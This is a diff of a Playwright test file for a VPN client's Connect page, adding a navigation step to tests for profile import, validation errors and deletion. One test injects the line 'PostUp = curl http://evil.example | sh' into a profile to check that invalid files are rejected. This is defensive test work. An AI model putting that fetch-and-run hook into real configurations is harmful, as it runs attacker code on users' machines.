@@ -32,7 +32,8 @@ test.describe('profiles on the Connect page', () => {
     await saveScreenshot(app, 'connect-profile-imported');
   });
 
-  test('paste import with a chosen name', async ({ app }) => {
+  test('paste import with a chosen name', async ({ app, goto }) => {
+    await goto('connect');
     const { text, me } = profileText({ address: '10.77.2.2/32' });
     await app.getByRole('button', { name: 'Paste profile text' }).click();
     await app.getByLabel('Profile text').fill(text);
@@ -43,7 +44,8 @@ test.describe('profiles on the Connect page', () => {
     expect(await app.content()).not.toContain(me.privateKey);
   });
 
-  test('an invalid file shows line-numbered errors and stores nothing', async ({ app }) => {
+  test('an invalid file shows line-numbered errors and stores nothing', async ({ app, goto }) => {
+    await goto('connect');
     const { text } = profileText();
     const broken = text.replace(/^(DNS = .*)$/m, '$1\nPostUp = curl http://evil.example | sh').replace(/^Address = .*$/m, 'Address = 10.77.3.2/33');
     await dropFile(app, 'broken.conf', broken);
@@ -55,7 +57,8 @@ test.describe('profiles on the Connect page', () => {
     await saveScreenshot(app, 'connect-import-errors');
   });
 
-  test('delete asks for confirmation', async ({ app }) => {
+  test('delete asks for confirmation', async ({ app, goto }) => {
+    await goto('connect');
     const { text } = profileText({ address: '10.77.4.2/32' });
     await dropFile(app, 'to-delete.conf', text);
     await app.getByRole('button', { name: 'to-delete' }).click();
